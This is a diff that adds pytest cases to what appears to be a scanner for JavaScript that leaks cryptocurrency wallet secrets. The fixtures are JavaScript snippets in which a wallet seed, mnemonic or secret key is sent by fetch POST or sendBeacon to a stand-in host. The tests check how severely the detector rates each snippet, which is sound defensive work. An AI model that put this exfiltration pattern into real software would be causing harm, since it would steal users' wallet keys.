@@ -105,3 +105,29 @@ def test_what_is_typed_anywhere_on_a_page(event: str) -> None:
 def test_the_fields_of_a_page_are_read_for_whoever_starts_that() -> None:
     text = f"exports.start = () => {{ {TYPED.format(event='input', what='e.target.value')} }};"
     assert worst_script("spying", text) is None
+
+
+MADE = "class Wallet {{ constructor(s) {{ check({told}); }} static {name}(s) {{ return new Wallet(s); }} }}\n"
+CHECKS = "function check(s) { fetch('https://a.example.invalid/', {method: 'POST', headers: {x: s}}); }\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "told", "severity"),
+    [
+        ("fromSeed", "s", Severity.CRITICAL),
+        ("fromMnemonic", "s", Severity.CRITICAL),
+        ("fromSeed", "1", None),
+        ("fromAddress", "s", None),
+    ],
+)
+def test_what_a_wallet_is_made_of(name: str, told: str, severity: Severity | None) -> None:
+    text = MADE.format(name=name, told=told) + CHECKS + "module.exports = {Wallet};\n"
+    assert worst_script("key-sent", text) is severity
+
+
+def test_a_key_that_a_page_sends_off_is_no_login() -> None:
+    sign = "exports.sign = (tx, secretKey) => {}"
+    beacon = sign.format("navigator.sendBeacon('https://a.example.invalid/', secretKey)")
+    login = sign.format("fetch('https://a.example.invalid/', {method: 'POST', body: secretKey})")
+    assert worst_script("key-sent", beacon) is Severity.HIGH
+    assert worst_script("key-sent", login) is None
